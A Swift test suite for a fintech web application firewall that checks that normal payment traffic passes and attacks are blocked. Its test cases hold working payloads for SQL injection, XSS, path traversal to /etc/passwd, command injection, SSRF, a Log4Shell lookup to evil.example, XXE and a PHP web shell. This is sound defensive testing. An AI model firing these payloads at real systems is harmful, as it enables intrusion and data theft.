// Strait — compliance gateway for cross-border fintech. Apache-2.0.

import Foundation
import Shield
import Testing

@Suite("Shield firewall")
struct FirewallTests {
    let firewall = Firewall()
    let policy = FirewallPolicy()

    func verdict(_ method: String, _ target: String, type: String? = nil, body: String = "", headers: [(String, String)] = []) -> Verdict {
        var all: [(name: String, value: String)] = [("Host", "api.fintech.example"), ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15"), ("Accept", "application/json")]
        if let type { all.append(("Content-Type", type)) }
        if !body.isEmpty { all.append(("Content-Length", String(body.utf8.count))) }
        for (name, value) in headers { all.append((name, value)) }
        return firewall.inspect(InspectedRequest(method: method, target: target, headers: all, body: Array(body.utf8)), policy: policy)
    }

    @Test("ordinary fintech traffic passes: JSON APIs, PATCH and DELETE, JSON:API and merge-patch, ISO 20022, CSV uploads, memos and support messages")
    func ordinaryTraffic() {
        let memo = #"Rent for March -- flat 4B (O'Brien & Sons); ref: INV-2024/03 #17, paid 50% now & rest on 1=1 basis? Don't select "urgent" unless asked; see https://example.com/terms?lang=en."#
        let cases: [(String, String, String?, String)] = [
            ("GET", "/api/accounts?page=2&sort=-created_at", nil, ""),
            ("GET", "/api/payments?from=2026-01-01T00:00:00Z&to=2026-01-31&status=settled,pending", nil, ""),
            ("POST", "/api/payments", "application/json", #"{"amount":{"value":"1250.00","currency":"EUR"},"debtor":{"name":"Élodie Martin","iban":"FR7630006000011234567890189"},"creditor":{"name":"Jonas Becker & Co. KG","iban":"DE89370400440532013000","bic":"COBADEFFXXX"},"remittance":"\#(memo)","endToEndId":"E2E-2026-000123","purpose":"RENT","requestedExecutionDate":"2026-03-01","metadata":{"channel":"mobile","device":"iPhone15,2","ip":"203.0.113.7"}}"#),
            ("PATCH", "/api/customers/cus_123", "application/merge-patch+json", #"{"address":{"line1":"12 Rue de l'Église","city":"Paris","postcode":"75004"},"phone":"+33612345678","email":"elodie.martin@example.fr","nickname":null}"#),
            ("DELETE", "/api/cards/card_9f8e7d", nil, ""),
            ("POST", "/api/v2/transfers", "application/vnd.api+json", #"{"data":{"type":"transfers","attributes":{"amount":"99.99","note":"Dinner at Luigi's - thanks! :) <3","tags":["food","friends"]},"relationships":{"source":{"data":{"type":"accounts","id":"acc_1"}}}}}"#),
            ("POST", "/api/iso20022/pain.001", "application/xml", #"<?xml version="1.0" encoding="UTF-8"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn><GrpHdr><MsgId>MSG-2026-0001</MsgId><CreDtTm>2026-03-01T10:00:00</CreDtTm><NbOfTxs>1</NbOfTxs><CtrlSum>1250.00</CtrlSum><InitgPty><Nm>ACME Trading Ltd.</Nm></InitgPty></GrpHdr><PmtInf><PmtInfId>PMT-1</PmtInfId><PmtMtd>TRF</PmtMtd><Dbtr><Nm>ACME Trading Ltd.</Nm></Dbtr><DbtrAcct><Id><IBAN>DE89370400440532013000</IBAN></Id></DbtrAcct><CdtTrfTxInf><PmtId><EndToEndId>E2E-1</EndToEndId></PmtId><Amt><InstdAmt Ccy="EUR">1250.00</InstdAmt></Amt><Cdtr><Nm>O'Neil &amp; Partners</Nm></Cdtr><RmtInf><Ustrd>Invoice 2026/17 - select items, order by date</Ustrd></RmtInf></CdtTrfTxInf></PmtInf></CstmrCdtTrfInitn></Document>"#),
            ("POST", "/api/support/messages", "application/json", #"{"subject":"Card declined at checkout","message":"Hi! I tried to pay 49.90 EUR at shop.example.com and got \"error 1=1\"? My card ending 4242 was declined twice; then I did select 'retry' and it worked. Can you check? Also my app shows <b>bold</b> text weirdly. Thanks, Sam (sam@example.org)"}"#),
            ("POST", "/api/login", "application/x-www-form-urlencoded", "username=sam%40example.org&password=P%40ss%27w0rd%3B%20drop%21&remember=on"),
            ("POST", "/api/kyc/documents", "application/json", #"{"type":"passport","number":"X12345678","country":"GB","expires":"2031-05-20","mrz":"P<GBRMARTIN<<ELODIE<<<<<<<<<<<<<<<<<<<<<<<<<<X123456786GBR9001014F3105207<<<<<<<<<<<<<<02"}"#),
            ("GET", "/api/search?q=what+is+the+fee+for+union+bank+transfers%3F&lang=en", nil, ""),
            ("GET", "/api/fx/rates?pairs=EUR%2FUSD,GBP%2FINR&at=2026-03-01T10%3A00%3A00%2B01%3A00", nil, ""),
            ("PUT", "/api/webhooks/wh_1", "application/json", #"{"url":"https://hooks.example.com/strait/payments?token=abc123","events":["payment.settled","payment.failed"],"secret":"whsec_9f8e7d6c5b4a"}"#),
        ]
        for (method, target, type, body) in cases {
            let result = verdict(method, target, type: type, body: body)
            #expect(!result.blocked, "\(method) \(target) blocked: \(result.matches)")
        }
        let boundary = "----strait-7d2a"
        let csv = "date,description,amount,currency\n2026-03-01,\"Salary, March\",3500.00,EUR\n2026-03-02,Rent -- flat 4B,-1200.00,EUR\n2026-03-03,\"Coffee & cake\",-7.80,EUR\n"
        let multipart = "--\(boundary)\r\nContent-Disposition: form-data; name=\"account\"\r\n\r\nacc_1\r\n--\(boundary)\r\nContent-Disposition: form-data; name=\"file\"; filename=\"statement-2026-03.csv\"\r\nContent-Type: text/csv\r\n\r\n\(csv)\r\n--\(boundary)--\r\n"
        let upload = verdict("POST", "/api/statements/import", type: "multipart/form-data; boundary=\(boundary)", body: multipart)
        #expect(!upload.blocked, "\(upload.matches)")
    }

    @Test("attacks of each family are blocked, with the rule ids", arguments: [
        ("GET", "/api/accounts?id=1%27%20OR%20%271%27%3D%271", "sqli"),
        ("GET", "/api/accounts?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "sqli"),
        ("POST", "/api/search?q=%27%3B%20DROP%20TABLE%20payments%3B--", "sqli"),
        ("GET", "/api/items?sort=name%27%20AND%20SLEEP(5)--", "sqli"),
        ("GET", "/api/profile?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "xss"),
        ("GET", "/api/profile?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss"),
        ("GET", "/api/redirect?to=javascript:alert(1)", "xss"),
        ("GET", "/api/files?name=..%2F..%2F..%2Fetc%2Fpasswd", "lfi"),
        ("GET", "/api/files?name=....%252F....%252Fetc%252Fshadow", "lfi"),
        ("GET", "/api/fetch?url=http://169.254.169.254/latest/meta-data/", "rfi"),
        ("GET", "/api/ping?host=8.8.8.8%3Bcat%20/etc/passwd", "rce"),
        ("GET", "/api/ping?host=127.0.0.1%20%7C%20whoami", "rce"),
        ("GET", "/api/render?tpl=%7B%7B7*7%7D%7D", "ssti"),
        ("GET", "/api/log?msg=%24%7Bjndi:ldap://evil.example/a%7D", "java"),
        ("GET", "/api/users?filter=*)(uid%3D*))(%7C(uid%3D*", "ldap"),
        ("GET", "/api/eval?code=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E", "php"),
    ])
    func attacks(method: String, target: String, family: String) {
        let result = verdict(method, target)
        #expect(result.blocked, "\(target): score \(result.score), \(result.matches)")
        #expect(result.matches.contains { $0.family.rawValue == family }, "\(target): \(result.matches)")
    }

    @Test("NoSQL operators, scanners and protocol anomalies are blocked")
    func requestLevel() {
        #expect(verdict("POST", "/api/login", type: "application/json", body: #"{"user":"admin","password":{"$ne":null}}"#).blocked)
        #expect(verdict("GET", "/api/login?user=admin&password[$ne]=x").blocked)
        #expect(verdict("GET", "/", headers: [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")]).blocked)
        #expect(verdict("POST", "/api/payments", type: "application/json", body: "{}", headers: [("Transfer-Encoding", "chunked")]).blocked)
        #expect(verdict("TRACE", "/").blocked)
        let xxe = #"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#
        #expect(verdict("POST", "/api/iso20022", type: "application/xml", body: xxe).blocked)
    }

    @Test("limits: bodies, argument counts and nesting beyond the bounds are refused with 413 or 400")
    func limits() {
        let small = Firewall(limits: InspectionLimits(maxBodyBytes: 1_000, maxArguments: 10, maxDepth: 5))
        func inspect(_ body: String, type: String) -> Verdict {
            small.inspect(InspectedRequest(method: "POST", target: "/x", headers: [("Host", "h"), ("Content-Type", type)], body: Array(body.utf8)), policy: FirewallPolicy())
        }
        #expect(inspect(String(repeating: "a", count: 2_000), type: "text/plain").rejection?.status == 413)
        #expect(inspect((0..<20).map { "a\($0)=1" }.joined(separator: "&"), type: "application/x-www-form-urlencoded").rejection?.code == "too_many_arguments")
        #expect(inspect(String(repeating: "[", count: 8) + String(repeating: "]", count: 8), type: "application/json").rejection?.code == "too_deep")
        #expect(inspect("--x\r\n", type: "multipart/form-data").rejection?.code == "malformed_multipart")
        // Detect-only mode records the same matches and never blocks.
        let detect = firewall.inspect(InspectedRequest(method: "GET", target: "/?q=%3Cscript%3E", headers: [("Host", "h")]), policy: FirewallPolicy(mode: .detect))
        #expect(!detect.blocked && !detect.matches.isEmpty)
    }

    @Test("nothing hides behind padding or parser differences: long values are judged whole, every value of a repeated JSON key is judged, many multipart parts are bounded")
    func evasions() {
        func inspect(_ body: [UInt8], type: String) -> Verdict {
            firewall.inspect(InspectedRequest(method: "POST", target: "/x", headers: [("Host", "h"), ("Content-Type", type)], body: body), policy: policy)
        }
        let attack = "1' union select password from users--"
        let padding = String(repeating: "a", count: 70_000)
        // After 70 KB of padding, in a text body and in a JSON string.
        #expect(inspect(Array((padding + " " + attack).utf8), type: "text/plain").blocked)
        #expect(inspect(Array(#"{"pad":"\#(padding)","memo":"\#(attack)"}"#.utf8), type: "application/json").blocked)
        // A repeated key: whichever value the upstream reads, both were judged.
        #expect(inspect(Array(#"{"memo":"fine","memo":"\#(attack)"}"#.utf8), type: "application/json").blocked)
        #expect(inspect(Array(#"{"memo":"\#(attack)","memo":"fine"}"#.utf8), type: "application/json").blocked)
        // Not JSON at all under a JSON type: judged as text, padding or not.
        #expect(inspect(Array((#"{"pad":"\#(padding)"} trailing "# + attack).utf8), type: "application/json").blocked)
        // Parts that add no argument still count: 2,000 parts are refused, not parsed one by one.
        let parts = String(repeating: "--b\r\nContent-Type: x\r\n\r\nv\r\n", count: 2_000) + "--b--\r\n"
        #expect(inspect(Array(parts.utf8), type: "multipart/form-data; boundary=b").rejection?.code == "too_many_arguments")
        // Parts without a blank line after their headers cost time linear in the body.
        var times: [Duration] = []
        for count in [2_000, 16_000] {
            let body = Array(String(repeating: "--b\rContent-Type: x\n\n", count: count).utf8)
            let large = Firewall(limits: InspectionLimits(maxBodyBytes: 1 << 22, maxArguments: 1 << 20))
            let start = ContinuousClock.now
            _ = large.inspect(InspectedRequest(method: "POST", target: "/x", headers: [("Host", "h"), ("Content-Type", "multipart/form-data; boundary=b")], body: body), policy: policy)
            times.append(ContinuousClock.now - start)
        }
        #expect(growsLinearly(times), "multipart parts: \(times)")
    }

    @Test("random and adversarial inputs: no crash, time linear in the input")
    func fuzz() {
        var generator = SystemRandomNumberGenerator()
        let alphabet = Array("<>'\"`;|&$(){}[]%\\/.=-+*#@!?:, \t\r\nabcdefghijklmnopqrstuvwxyz0123456789selectunionscriptonerror".utf8)
        var slowest = Duration.zero
        for round in 0..<384 {
            let length = round < 380 ? Int.random(in: 0...600, using: &generator) : 20_000
            let bytes = (0..<length).map { _ in alphabet[Int.random(in: 0..<alphabet.count, using: &generator)] }
            let text = String(decoding: bytes, as: UTF8.self)
            let start = ContinuousClock.now
            for (type, body) in [("application/x-www-form-urlencoded", "v=" + text), ("application/json", #"{"v":\#(String(reflecting: text))}"#), ("application/xml", "<a>\(text)</a>"), ("text/plain", text)] {
                _ = firewall.inspect(InspectedRequest(method: "POST", target: "/p?q=" + (text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""), headers: [("Host", "h"), ("Content-Type", type)], body: Array(body.utf8)), policy: policy)
            }
            let elapsed = ContinuousClock.now - start
            if length < 1_000 { slowest = max(slowest, elapsed) }
        }
        // Pathological repetitions that make backtracking matchers explode.
        for unit in ["'", "((", "<a ", "../", "%25", "${", "{{", "&#", "\\u00", "/*", "or 1=", "onerror="] {
            let times = inspectionTimes(firewall, policy, repeating: unit)
            print("shield fuzz: \(unit) x1000 \(times[0]), x8000 \(times[1])")
            #expect(growsLinearly(times), "\(unit): \(times) grows faster than linearly")
        }
        #expect(slowest < .milliseconds(500), "a short input took \(slowest)")
    }
}
